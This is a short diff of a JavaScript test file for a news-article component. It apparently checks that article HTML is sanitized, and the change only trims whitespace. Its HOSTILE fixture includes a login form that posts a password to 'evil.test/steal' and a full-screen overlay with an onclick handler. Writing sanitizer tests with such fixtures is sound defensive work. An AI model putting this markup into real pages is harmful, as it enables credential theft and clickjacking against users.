@@ -15,8 +15,7 @@ const HOSTILE = `
   <form action="https://evil.test/steal"><input name="password"><button>log in</button></form>
   <p style="position:fixed;inset:0" onclick="window.pwned = true">Read the notice.</p>
   <img src="https://cdn.test/table.png" alt="new rates table">
-  <a href="https://bank.test/notice">full notice</a>
-`;
+  <a href="https://bank.test/notice">full notice</a>`;
 
 describe('NewsDetail', () => {
   it('shows title, author and date, and the article sanitized', async () => {
